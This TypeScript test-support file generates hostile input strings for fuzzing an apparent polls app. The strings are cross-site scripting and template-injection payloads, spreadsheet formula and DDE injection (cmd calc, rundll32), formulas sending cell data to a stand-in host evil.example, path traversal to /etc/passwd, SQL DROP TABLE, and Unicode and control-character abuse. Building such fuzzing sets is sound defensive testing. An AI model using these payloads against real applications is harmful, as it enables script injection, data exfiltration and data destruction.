import { randomFrom } from '../../support/polls/random.ts'

/** Where a text that ran would go, and what it would leave behind. */
export const ELSEWHERE = 'evil.example'
/** Only a script can write this: the texts hold it in lower case. */
export const RAN = 'RAN-SCRIPT'

const PAYLOAD = '__pwned=1,document.body.append(\'ran-script\'.toUpperCase())'
const MARK = '\u0336'
const zalgo = (text: string, marks: string, count: number) => [...text].map(letter => letter + marks.repeat(count)).join('')

/** The nastiest first: a small run takes them from the start. */
export const FIXED: readonly string[] = [
  `</script><script>${PAYLOAD}</script>`,
  `<img src=x onerror="${PAYLOAD}">`,
  `=cmd|' /C calc'!A0`,
  zalgo('zalgo', '\u030D\u0320\u0334\u0353\u0311', 6),
  'W'.repeat(280),
  '\u202E drawkcab sdrow \u2067 and never closed',
  `<svg/onload="${PAYLOAD}">`,
  `{{ constructor.constructor("${PAYLOAD}")() }}`,
  `=HYPERLINK("http://${ELSEWHERE}/?"&A1,"click")`,
  '<img src=x onerror=__pwned=1>',
  '\u001B[2J\u001B[31mred \u009B2Jalert\u0007',
  'שלום abc עולם 123',
  '<!--<script>',
  'line\u2028paragraph\u2029end',
  `x;=cmd|' /C calc'!A0;y`,
  'x","=1+1","y',
  '\uD83D half \uDE00\uDE00 a pair \uD83D',
  '👨‍👩‍👧‍👦'.repeat(20),
  'ก็็็็็็็็็็ ส็็็็็็็็็็็็็',
  'e\u0301\u200D\u0301\u0301\u200C\u0301\u0301\u034F\u0301\u200B\u0301\u0301\u0301\u00AD\u0301\u0301',
  `<iframe srcdoc="<script>parent.${PAYLOAD}</script>">`,
  `javascript:${PAYLOAD}`,
  '﷽'.repeat(40),
  'مرحبا بالعالم'.repeat(6),
  '＝1+1',
  '漢'.repeat(280),
  // eslint-disable-next-line no-template-curly-in-string
  '${constructor.constructor("__pwned=1")()}',
  '\u2066\u2067\u2068 isolates \u2069\u202Aembedded\u202B and \u061Cmarked',
  '\u00A0 =1+1',
  '\t=1+1',
  '\r\n=1+1',
  '-2+3+cmd|\' /C calc\'!D2',
  '@SUM(1+1)*cmd|\' /C calc\'!A0',
  '+1+1',
  '"=1+1',
  '\'=1+1',
  '_x003D_1+1',
  '𒐫𒈙꧅𒐫𒈙꧅'.repeat(12),
  `<a href="javascript:${PAYLOAD}">tap me</a>`,
  `[tap me](javascript:${PAYLOAD}) ![](http://${ELSEWHERE}/x.png)`,
  `<style>*{display:none}</style><link rel=stylesheet href=//${ELSEWHERE}/x.css>`,
  `<math><mtext><table><mglyph><style><img src=x onerror="${PAYLOAD}">`,
  `<template><slot v-html="'<img src=x onerror=${PAYLOAD}>'"></slot></template>`,
  '<component :is="\'script\'">__pwned=1</component>',
  '&lt;img src=x onerror=__pwned=1&gt; &#60;b&#62; &amp;amp; &nbsp;|',
  '$& $` $\' $1 $<name> \\u003c \\x3c',
  '__proto__',
  'constructor',
  'null',
  '\\',
  '%s %d %o %00 %1b[31m',
  ']]>&<![CDATA[',
  '../../../../etc/passwd',
  '\'; DROP TABLE entries; --',
  `=IMPORTXML("http://${ELSEWHERE}","//a")`,
  `=WEBSERVICE("http://${ELSEWHERE}")`,
  `DDE("cmd";"/C calc";"__DdeLink")`,
  '=1+1\u0000',
  '\uFEFF=1+1',
  '\u200B=1+1',
  '🏴󠁧󠁢󠁥󠁮󠁧󠁿🏳️‍🌈🧑🏽‍🚀👩🏿‍❤️‍💋‍👨🏻',
  '🇺🇳'.repeat(60),
  'i'.repeat(280),
  'mmmm '.repeat(56),
  'ﷺ ௵ ဪ 𒐫 ⸻⸻⸻⸻⸻⸻⸻⸻',
  'རྒྱུ་ བསྒྲུབས་ क्ष्म्य ज़ों ทุ่ม',
  `${'\u0E47'.repeat(30)}a`,
  `${MARK.repeat(30)}`,
  '\uFFFE\uFFFF\uFDD0 nowhere',
  '\u3164\u115F\u2800 blanks \u3164',
  'ⓗⓣⓣⓟ://𝕖𝕧𝕚𝕝 ｊａｖａｓｃｒｉｐｔ：１',
]

const openers = ['<img src=x onerror=', '<svg onload=', '<body onload=', '<input autofocus onfocus=', '<details open ontoggle=', '<video><source onerror=', '<marquee onstart=', '<script>', '</textarea><script>', '</title><script>', '"><script>', '\'><img src=x onerror=', '--><script>', '{{', '{%', '${', '#{', '`${', '<%=', 'v-html=', '@click=', ':src=', 'javascript:', 'data:text/html,<script>', '&lt;script&gt;', '\\u003cscript\\u003e']
const closers = ['</script>', '>', '}}', '}', '-->', '" x="', ']]>', '%>', '\'', '']
const formulas = ['=', '+', '-', '@', '\t=', '\r=', ' =', '\u00A0=', '\u3000=', '＝', '＋', '－', '＠', '";=', ';=', ',=', '",=', '\'=', '|=', '\n=']
const calls = ['1+1', 'cmd|\'/C calc\'!A0', `HYPERLINK("http://${ELSEWHERE}")`, `WEBSERVICE("//${ELSEWHERE}")`, 'SUM(A1:Z99)', 'MSEXCEL|\'\\..\\..\\x.exe\'!\'\'', 'rundll32|\'URL.dll\'!A', 'DDE("a";"b";"c")', 'INDIRECT("A1")']
const alphabets = ['abcdefghij', 'ABCWMQ', 'אבגדהוז', 'ابتثجحخ', 'กขฃคฅฆ็่้', 'कखगघङ्ािी', '漢字仮名交', 'ㄱㄴ가나다', '😀🎉👩‍💻🏳️‍🌈', 'ΑΒΓαβγ', '𝔞𝔟𝔠𝟘', '༄༅ཀྐ', '\u0300\u0301\u0316\u0334\u0489a', '\u202A\u202B\u202D\u202E\u2066\u2067\u2069x', '\u200B\u200C\u200D\u00AD\u2060y', '\u0000\u0001\u001B\u007F\u0085\u009Bz', '\uD800\uDBFF\uDC00\uDFFFq', '"\'`<>&;,|\\/=+-@']

/**
 * Texts that mean harm: the fixed ones first, then as many more as are asked for.
 * @param most letters of each
 */
export function hostileTexts(count: number, seed: number, most = 280): string[] {
  const random = randomFrom(seed)
  const one = <Item>(list: readonly Item[]): Item => list[Math.floor(random() * list.length)]!
  const upTo = (number: number) => 1 + Math.floor(random() * number)
  const mixed = () => Array.from({ length: upTo(60) }, () => one([...one(alphabets)])).join('')
  const kinds: (() => string)[] = [
    () => `${one(openers)}${PAYLOAD}${one(closers)}`,
    () => `${mixed().slice(0, 20)}${one(openers)}${one(openers)}__pwned=1${one(closers)}${one(closers)}`,
    () => `${one(formulas)}${one(calls)}`,
    () => `${mixed().slice(0, 12)}${one(formulas)}${one(calls)}${one(formulas)}1`,
    mixed,
    () => {
      const alphabet = [...one(alphabets)]
      return Array.from({ length: upTo(280) }, () => one(alphabet)).join('')
    },
    () => one([...'WMi漢ﷺ﷽𒐫ก😀א@']).repeat(upTo(280)),
    () => zalgo(one(['zalgo', 'אבג', 'กข', '漢', '😀']), Array.from({ length: upTo(6) }, () => String.fromCharCode(0x300 + Math.floor(random() * 112))).join(one(['', '\u200D', '\u034F'])), upTo(12)),
    () => `${one(['\u202E', '\u2067', '\u202B', '\u061C', '\u200F'])}${one(['abc 12', 'שלום', 'مرحبا'])} ${one(['שלום', 'xyz 3', '(1)'])}${one(['\u202C', '\u2069', ''])}`,
    () => `${one(['\u001B[', '\u009B', '\u001B]0;', '\u001BP'])}${one(['2J', '31m', 'title\u0007', '1049h'])}${mixed().slice(0, 20)}`,
  ]
  const texts = [...FIXED]
  while (texts.length < count)
    texts.push(one(kinds)())
  return texts.slice(0, count).map(text => shortened(text, most))
}

/** Letters are code points, and no pair is cut in two that was whole. */
function shortened(text: string, most: number): string {
  return [...text].slice(0, most).join('')
}
